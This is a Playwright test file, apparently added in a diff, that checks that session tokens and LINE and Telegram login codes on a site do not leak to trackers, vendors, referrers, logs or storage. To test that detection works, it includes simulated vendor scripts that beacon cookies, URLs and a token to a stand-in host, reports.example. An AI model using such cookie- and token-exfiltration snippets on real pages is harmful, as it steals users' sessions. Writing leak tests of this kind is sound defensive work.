@@ -1,0 +1,270 @@
+import type { Page, Request } from "@playwright/test";
+import { ports } from "./ports.ts";
+import { askConsole, type Brand, expect, home, logIn, newName, open, test } from "./support.ts";
+
+/** Something that was said, and where: `https://x.example/tr header referer`. */
+interface Saying {
+  readonly where: string;
+  readonly text: string;
+}
+
+const isOutside = (url: URL) => !url.hostname.endsWith("localhost") && url.hostname !== "127.0.0.1";
+
+/** What a vendor's script or page tells home about the page that it is on. */
+const report = `new Image().src = "https://reports.example/seen?" + new URLSearchParams({
+  href: location.href, referrer: document.referrer, cookie: document.cookie, name: window.name,
+  state: JSON.stringify(history.state), queue: JSON.stringify(window.fbq && window.fbq.queue) });`;
+
+/** Lets outside origins answer, with scripts and pages that report what they see. */
+const answerOutside = (page: Page) =>
+  page.route(isOutside, (route) => {
+    const type = route.request().resourceType();
+    if (type === "script") return route.fulfill({ contentType: "text/javascript", body: report });
+    if (type === "document")
+      return route.fulfill({
+        contentType: "text/html",
+        body: `<!doctype html><title>Vendor</title><script>${report}</script>`,
+      });
+    return route.fulfill({ status: 204, headers: { "Access-Control-Allow-Origin": "*" } });
+  });
+
+/** Listens to all that leaves a page from now on: requests with their headers and bodies, and the browser's console. */
+function listen(page: Page) {
+  const sayings: Saying[] = [];
+  const reading: Promise<void>[] = [];
+  const hear = async (request: Request) => {
+    const url = new URL(request.url());
+    const place = url.origin + url.pathname;
+    // The address that brought the secret is where it came from.
+    if (!request.isNavigationRequest() || request.frame() !== page.mainFrame()) {
+      sayings.push({ where: `${place} url`, text: request.url() });
+    }
+    sayings.push({ where: `${place} body`, text: request.postData() ?? "" });
+    const headers = await request.allHeaders().catch(() => request.headers());
+    for (const [name, text] of Object.entries(headers)) {
+      if (!name.startsWith(":")) sayings.push({ where: `${place} header ${name}`, text });
+    }
+  };
+  page.on("request", (request) => reading.push(hear(request)));
+  page.on("console", (message) => sayings.push({ where: "console", text: message.text() }));
+  return {
+    sayings,
+    async settled() {
+      await Promise.all(reading);
+    },
+  };
+}
+
+/** What stays behind: address bar, history, storage, cookies, and what the gateway's log and events hold. */
+async function remains(page: Page, brand: Brand, since: string): Promise<readonly Saying[]> {
+  const devtools = await page.context().newCDPSession(page);
+  const { entries } = await devtools.send("Page.getNavigationHistory");
+  const kept = await page.evaluate(() => ({
+    localStorage: { ...localStorage },
+    sessionStorage: { ...sessionStorage },
+    ...{ title: { title: document.title }, cookie: { cookie: document.cookie } },
+  }));
+  const requests = await askConsole<{ path: string; time: string; headers: Record<string, string>; body: unknown }[]>(
+    "GET",
+    `/api/requests?merchant=${brand}`,
+  );
+  const events = await askConsole<{ time: string }[]>("GET", `/api/events?merchant=${brand}`);
+  return [
+    { where: "address", text: page.url() },
+    ...entries.map(({ url }) => ({ where: "history", text: url })),
+    ...Object.entries(kept).flatMap(([area, values]) =>
+      Object.entries(values).map(([key, text]) => ({ where: `${area} ${key}`, text: String(text) })),
+    ),
+    ...requests
+      .filter(({ time }) => time >= since)
+      .flatMap(({ path, headers, ...rest }) => [
+        ...Object.entries(headers).map(([name, text]) => ({ where: `gateway ${path} header ${name}`, text })),
+        { where: `gateway ${path} log`, text: JSON.stringify(rest) },
+      ]),
+    ...events.filter(({ time }) => time >= since).map((event) => ({ where: "event", text: JSON.stringify(event) })),
+  ];
+}
+
+/** Where a secret stands; once in its own form and once as an address or JSON would write it. */
+const placesOf = (secret: string, sayings: readonly Saying[]) => [
+  ...new Set(
+    sayings
+      .filter(({ text }) =>
+        [secret, encodeURIComponent(secret), JSON.stringify(secret).slice(1, -1)].some((form) => text.includes(form)),
+      )
+      .map(({ where }) => where),
+  ),
+];
+
+const own = (brand: Brand) => `http://${brand}.localhost:${ports.site}`;
+
+/** Where a session's token belongs. */
+const isTokensPlace = (brand: Brand) => (where: string) =>
+  where === "sessionStorage MC_SESSION_INFO" ||
+  (where.startsWith(`${own(brand)}/wps/`) && where.endsWith(" header authorization")) ||
+  (where.startsWith("gateway /wps/") && where.endsWith(" header authorization"));
+
+/**
+ * The page's own files are asked for before any script can clean the address: the server that was asked for the page
+ * reads the address once more.
+ */
+const isOwnFile = (brand: Brand) => (where: string) =>
+  where.startsWith(`${own(brand)}/m/`) && where.endsWith(" header referer");
+
+const storedToken = (page: Page) =>
+  page.evaluate((): string => JSON.parse(sessionStorage.getItem("MC_SESSION_INFO") ?? "{}").token ?? "");
+
+/** Asks for consent, in this page alone: journeys run beside it. */
+const askForConsent = (page: Page) =>
+  page.route("**/wps/system/consent", async (route) => {
+    const url = new URL(route.request().url());
+    const headers = { ...route.request().headers(), host: url.host };
+    const response = await route.fetch({ url: `http://127.0.0.1:${ports.site}${url.pathname}`, headers });
+    const answer = await response.json();
+    await route.fulfill({ response, json: { ...answer, value: { ...answer.value, required: true } } });
+  });
+
+const accept = async (page: Page) => {
+  await page.getByRole("dialog", { name: "Your privacy" }).getByRole("button", { name: "Accept" }).click();
+};
+
+test.use({ allowErrors: /./ });
+
+test("a token in the address reaches no tracker, no vendor, no game, no referrer, no log and no other key of storage", async ({
+  site,
+  browser,
+}) => {
+  // One that the gateway issued, to another browser.
+  const elsewhere = await browser.newContext({ baseURL: home("manila") });
+  const other = await elsewhere.newPage();
+  await open(other, home("manila", "/m/login"));
+  await logIn(other, "agent2");
+  await expect.poll(() => storedToken(other)).toBeTruthy();
+  const token = await storedToken(other);
+  await elsewhere.close();
+
+  const since = new Date().toISOString();
+  const heard = listen(site);
+  await answerOutside(site);
+  await askForConsent(site);
+  const pixel = site.waitForRequest("https://connect.facebook.net/**");
+  const told = site.waitForRequest((request) => request.url().includes("eventTracking"));
+  await open(site, home("manila", `/m/member/home?token=${token}&fbclid=abc&from=app`));
+  await accept(site);
+  await Promise.all([pixel, told, site.waitForRequest("https://reports.example/**")]);
+  await expect(site).toHaveURL(/\/m\/member\/home\?fbclid=abc&from=app$/);
+  expect(await storedToken(site)).toBe(token);
+
+  // Around the site: a vendor's chat, a game on an origin of its own, a fault that is reported.
+  const reports = () => heard.sayings.filter(({ where }) => where === "https://reports.example/seen url").length;
+  const before = reports();
+  await site.getByRole("main").getByRole("button", { name: "Customer service" }).click();
+  await expect.poll(reports).toBeGreaterThan(before);
+  await site.route("**/wps/game/launchGame", (route) =>
+    route.fulfill({ json: { success: true, value: { gameUrl: "https://games.example/play" } } }),
+  );
+  const game = site.waitForRequest("https://games.example/play");
+  await site.evaluate(() => history.pushState(null, "", "/m/launchGame?vendor=SAMBA&code=SB_CARNAVAL_NEON"));
+  expect((await (await game).allHeaders()).referer).toBe(`${own("manila")}/`);
+  const reported = site.waitForRequest((request) => request.url().includes("/wps/system/collect"));
+  await site.evaluate(() => void setTimeout(() => Promise.reject(new Error(location.href))));
+  await reported;
+
+  await heard.settled();
+  const everything = [...heard.sayings, ...(await remains(site, "manila", since))];
+  expect(everything.filter(({ where }) => where === "event").length).toBeGreaterThan(0);
+  const places = placesOf(token, everything);
+  expect(places.some(isTokensPlace("manila"))).toBe(true);
+  expect(places.filter((where) => !isTokensPlace("manila")(where) && !isOwnFile("manila")(where))).toEqual([]);
+
+  // This listens well: a leak of every kind is heard.
+  await site.evaluate((secret) => {
+    console.info(secret);
+    localStorage.setItem("leak", secret);
+    history.pushState(null, "", `/m/home?leak=${secret}`);
+    void fetch("https://reports.example/leak", { method: "POST", body: secret, mode: "no-cors" }).catch(() => {});
+    new Image().src = `https://reports.example/image?${secret}`;
+    navigator.sendBeacon(
+      "/wps/system/collect",
+      JSON.stringify({ merchant: "manila", value: { type: "error", code: secret, build: "x" } }),
+    );
+  }, token);
+  const leaks = async () => {
+    await heard.settled();
+    return placesOf(token, [...heard.sayings, ...(await remains(site, "manila", since))]);
+  };
+  const expected = ["console", "localStorage leak", "address", "history", "event", "https://reports.example/image url"];
+  await expect.poll(leaks).toEqual(expect.arrayContaining(expected));
+});
+
+test("LINE's code and state are spent by the gateway's one call, and stand nowhere else", async ({ site }) => {
+  await answerOutside(site);
+  await open(site, home("lotus", "/m/login"));
+  await site.getByRole("button", { name: "Continue with LINE" }).click();
+  await site.getByLabel("Somebody else").fill(newName());
+
+  const since = new Date().toISOString();
+  const heard = listen(site);
+  const back = site.waitForRequest((request) => request.isNavigationRequest() && /[?&]code=/.test(request.url()));
+  const exchanged = site.waitForResponse((response) => response.url().includes("WPS3RD_verifyLineCode"));
+  await site.getByRole("button", { name: "Allow", exact: true }).click();
+  const returned = new URL((await back).url()).searchParams;
+  const { lineSessionToken } = (await (await exchanged).json()).value;
+  await site.getByRole("button", { name: "Log in to an existing account" }).click();
+  await logIn(site, "player");
+  await expect.poll(() => storedToken(site)).toBeTruthy();
+  await expect(site).toHaveURL(/\/m\/home$/);
+  const token = await storedToken(site);
+
+  await heard.settled();
+  const vendor = "access.line.me";
+  const everything = [...heard.sayings, ...(await remains(site, "lotus", since))].filter(
+    // LINE made the code, and was told the state; its page lies behind in the history.
+    ({ where, text }) => !where.includes(vendor) && !(where === "history" && new URL(text).host.includes(vendor)),
+  );
+  const spent = (path: string) => [`${own("lotus")}${path} body`, `gateway ${path} log`];
+  const stray = (secret: string | null, ...allowed: readonly string[]) =>
+    placesOf(secret ?? "", everything).filter((where) => !allowed.includes(where) && !isOwnFile("lotus")(where));
+  expect(stray(returned.get("code"), ...spent("/wps/relay/WPS3RD_verifyLineCode"))).toEqual([]);
+  expect(stray(returned.get("state"))).toEqual([]);
+  expect(stray(lineSessionToken, ...spent("/wps/session/login/line"), ...spent("/wps/session/login"))).toEqual([]);
+  expect(placesOf(token, everything).filter((where) => !isTokensPlace("lotus")(where))).toEqual([]);
+  expect(placesOf(returned.get("code") ?? "", everything)).toEqual(
+    expect.arrayContaining(spent("/wps/relay/WPS3RD_verifyLineCode")),
+  );
+});
+
+test("Telegram's answer is spent by the gateway's one call, and stands nowhere else", async ({ site }) => {
+  await answerOutside(site);
+  // The address at the moment of the call, before the log-in leads elsewhere: it stands among what is looked through.
+  await site.addInitScript(() => {
+    const { fetch } = window;
+    window.fetch = (address, options) => {
+      if (String(address).includes("/login/telegram")) sessionStorage.setItem("address then", location.href);
+      return fetch(address, options);
+    };
+  });
+  await open(site, home("noor", "/m/login"));
+  await site.getByRole("button", { name: "Continue with Telegram" }).click();
+  await site.getByLabel("Somebody else").fill(newName());
+
+  const since = new Date().toISOString();
+  const heard = listen(site);
+  const arrived = site.waitForRequest((request) => request.url().endsWith("/wps/session/login/telegram"));
+  await site.getByRole("button", { name: "Accept", exact: true }).click();
+  const { telegramAuth } = (await arrived).postDataJSON();
+  await expect.poll(() => storedToken(site)).toBeTruthy();
+  await expect(site).toHaveURL(/\/m\/home$/);
+  const token = await storedToken(site);
+
+  await heard.settled();
+  const everything = [...heard.sayings, ...(await remains(site, "noor", since))].filter(
+    ({ where, text }) => !where.includes("telegram.org") && !(where === "history" && text.includes("telegram.org")),
+  );
+  const path = "/wps/session/login/telegram";
+  const spent = [`${own("noor")}${path} body`, `gateway ${path} log`];
+  expect(placesOf(telegramAuth.hash, everything).sort()).toEqual(spent.sort());
+  expect(everything).toContainEqual({ where: "sessionStorage address then", text: home("noor", "/m/login") });
+  expect(placesOf("tgAuthResult", everything)).toEqual([]);
+  expect(placesOf(token, everything).filter((where) => !isTokensPlace("noor")(where))).toEqual([]);
+});
